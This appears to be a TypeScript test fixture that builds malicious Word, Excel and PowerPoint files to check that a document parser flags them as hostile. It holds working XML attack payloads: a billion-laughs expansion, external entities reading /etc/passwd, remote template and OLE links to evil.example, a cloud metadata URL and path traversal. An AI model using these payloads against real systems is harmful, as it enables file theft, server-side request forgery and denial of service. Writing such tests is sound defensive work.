import { documentOf, docxWith, GOOD, type HostileFile, withPart } from './hostile-file.ts';
import { docxFile, type Link, links, paragraph, pptxEntries, sheetOf, WORD, xlsxEntries } from './office-file.ts';
import { zipFile } from './zip-file.ts';

const LAUGHS = `<!DOCTYPE x [<!ENTITY a0 "哈">${Array.from({ length: 30 }, (_, level) => `<!ENTITY a${level + 1} "&a${level};&a${level};&a${level};">`).join('')}]>`;
const OUTSIDE = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>';

function linking(link: Omit<Link, 'id'>): () => Uint8Array {
  return docxWith((entries) => [...entries, links('word/settings.xml', [{ id: 'r1', ...link }])]);
}

const XML: readonly HostileFile[] = [
  {
    what: 'a billion laughs',
    fileName: 'a.docx',
    becomes: 'HOSTILE_FILE',
    bytes: docxWith(withPart('word/document.xml', documentOf(paragraph('&a30;'), LAUGHS))),
  },
  {
    what: 'a file of the machine as an entity (Word)',
    fileName: 'a.docx',
    becomes: 'HOSTILE_FILE',
    bytes: docxWith(withPart('word/document.xml', documentOf(paragraph('&f;'), OUTSIDE))),
  },
  {
    what: 'the same in UTF-16',
    fileName: 'a.docx',
    becomes: 'HOSTILE_FILE',
    bytes: docxWith(
      withPart(
        'word/document.xml',
        Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(documentOf(paragraph('&f;'), OUTSIDE), 'utf16le')]),
      ),
    ),
  },
  {
    what: 'the same in a list of relationships',
    fileName: 'a.docx',
    becomes: 'HOSTILE_FILE',
    bytes: docxWith(withPart('word/_rels/x.xml.rels', `${OUTSIDE}<Relationships/>`)),
  },
  {
    what: 'the same in Excel',
    fileName: 'a.xlsx',
    becomes: 'HOSTILE_FILE',
    bytes: () =>
      zipFile(
        withPart(
          'xl/sharedStrings.xml',
          `${OUTSIDE}<sst><si><t>&f;</t></si></sst>`,
        )(xlsxEntries([{ name: 'S', content: sheetOf([['a']]) }])),
      ),
  },
  {
    what: 'the same in PowerPoint',
    fileName: 'a.pptx',
    becomes: 'HOSTILE_FILE',
    bytes: () =>
      zipFile(withPart('ppt/slides/slide1.xml', `${OUTSIDE}<p:sld/>`)(pptxEntries([{ title: 'a', body: '' }]))),
  },
  {
    what: 'a hundred thousand tables in each other',
    fileName: 'a.docx',
    becomes: 'HOSTILE_FILE',
    bytes: () => docxFile('<w:tbl><w:tr><w:tc>'.repeat(100_000)),
  },
  {
    what: 'XML that ends in the middle',
    fileName: 'a.docx',
    becomes: 'UNREADABLE_FILE',
    bytes: docxWith(withPart('word/document.xml', documentOf(GOOD).slice(0, -30))),
  },
  {
    what: 'styles based on each other in a circle',
    fileName: 'a.docx',
    becomes: 'read',
    bytes: docxWith(
      withPart(
        'word/styles.xml',
        `<w:styles ${WORD}><w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>`,
      ),
    ),
  },
  {
    what: 'characters that no database takes',
    fileName: 'a.docx',
    becomes: 'read',
    bytes: () => docxFile(paragraph('甲&#0;乙&#xD800;丙&#x1;丁')),
  },
];

const LINKS: readonly HostileFile[] = [
  {
    what: 'a template from the web',
    fileName: 'a.docx',
    becomes: 'HOSTILE_FILE',
    bytes: linking({ kind: 'attachedTemplate', target: 'https://evil.example/t.dotm', external: true }),
  },
  {
    what: 'an object on another machine',
    fileName: 'a.docx',
    becomes: 'HOSTILE_FILE',
    bytes: linking({ kind: 'oleObject', target: 'file://\\\\evil.example\\share\\a.exe', external: true }),
  },
  {
    what: 'a part document from elsewhere',
    fileName: 'a.docx',
    becomes: 'HOSTILE_FILE',
    bytes: linking({ kind: 'subDocument', target: 'http://169.254.169.254/latest', external: true }),
  },
  {
    what: 'a frame from elsewhere',
    fileName: 'a.docx',
    becomes: 'HOSTILE_FILE',
    bytes: linking({
      kind: 'frame',
      target: 'mhtml:https://evil.example/a!x-usc:https://evil.example/b',
      external: true,
    }),
  },
  {
    what: 'a path beyond the file',
    fileName: 'a.docx',
    becomes: 'HOSTILE_FILE',
    bytes: linking({ kind: 'image', target: '../../../../etc/passwd' }),
  },
];

/** XML that brings entities along, nests without end, or points elsewhere. */
export const HOSTILE_XML: readonly HostileFile[] = [...XML, ...LINKS];
